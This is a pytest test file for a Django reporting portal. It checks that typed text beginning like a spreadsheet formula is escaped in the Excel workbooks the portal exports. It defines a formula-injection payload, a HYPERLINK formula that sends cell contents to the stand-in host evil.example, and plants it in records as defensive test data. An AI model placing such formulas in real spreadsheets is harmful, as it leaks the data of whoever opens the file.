"""No text a user typed becomes a formula in any workbook we write; numbers stay numbers."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from indicators.models import FieldTarget, NationalResult, Province, Unit
from par_portal.excel import cell_value
from reporting.models import Period, Report, TaskEntry

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("typed", [PAYLOAD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"])
def test_text_that_starts_like_a_formula_is_written_as_text(typed):
    assert cell_value(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["Sở Nội vụ", "", None, 12, 3.5, -4, "a=b"])
def test_other_values_are_kept(kept):
    assert cell_value(kept) == kept


def _poison_quang_nam() -> Period:
    """The last reported month of Quang Nam's 2021 demo (fixed dates: the same on any day),
    with every typed text set to a formula."""
    province = Province.objects.get(code="quang-nam")
    report = (
        Report.objects.filter(period__province=province, first_submitted_at__isnull=False)
        .order_by("-period__month")
        .first()
    )
    period = report.period
    TaskEntry.objects.filter(report__period=period).update(
        result=PAYLOAD, difficulties=PAYLOAD, explanation=PAYLOAD
    )
    Report.objects.filter(period=period).update(review_note=PAYLOAD)
    Unit.objects.filter(province=province).update(name_vi=PAYLOAD)
    return period


def _cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_safe(content: bytes, *, expect_numbers: bool = True):
    cells = _cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    assert any(c.value == "'" + PAYLOAD for c in cells), "the typed text is not in the file"
    if expect_numbers:
        assert any(isinstance(c.value, int | float) and c.data_type == "n" for c in cells)


def test_focal_summary_workbook_has_no_formula(client):
    period = _poison_quang_nam()
    client.force_login(get_user_model().objects.get(username="qn.reviewer"))
    response = client.get(reverse("reporting:summary_excel", args=[period.pk]))
    assert response.status_code == 200
    _assert_safe(response.content)


def test_brief_workbook_has_no_formula(client):
    period = _poison_quang_nam()
    client.force_login(get_user_model().objects.get(username="qn.committee"))
    response = client.get(
        reverse("dashboards:brief"), {"format": "xlsx", "month": f"{period.month:%Y-%m}"}
    )
    assert response.status_code == 200
    _assert_safe(response.content)


def _export(client, url: str, prefix: str) -> bytes:
    form = client.get(url).context["form"]
    xlsx = next(v for v, label in form.fields["format"].choices if label.lower() == "xlsx")
    data = {"format": xlsx, "resource": ""}
    data.update({name: "on" for name in form.fields if name.startswith(prefix)})
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize(
    "model,url,prefix",
    [
        (FieldTarget, "admin:indicators_fieldtarget_export", "fieldtargetresource_"),
        (NationalResult, "admin:indicators_nationalresult_export", "nationalresultresource_"),
    ],
)
def test_import_export_workbooks_have_no_formula(client, model, url, prefix):
    model.objects.update(note=PAYLOAD)
    client.force_login(get_user_model().objects.get(username="admin"))
    _assert_safe(_export(client, reverse(url), prefix), expect_numbers=False)


def test_every_import_export_resource_uses_the_safe_base():
    from django.contrib import admin
    from import_export.admin import ImportExportMixin

    from indicators.resources import ScopedResource

    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ImportExportMixin):
            for resource in model_admin.get_resource_classes(None):
                assert issubclass(resource, ScopedResource), resource
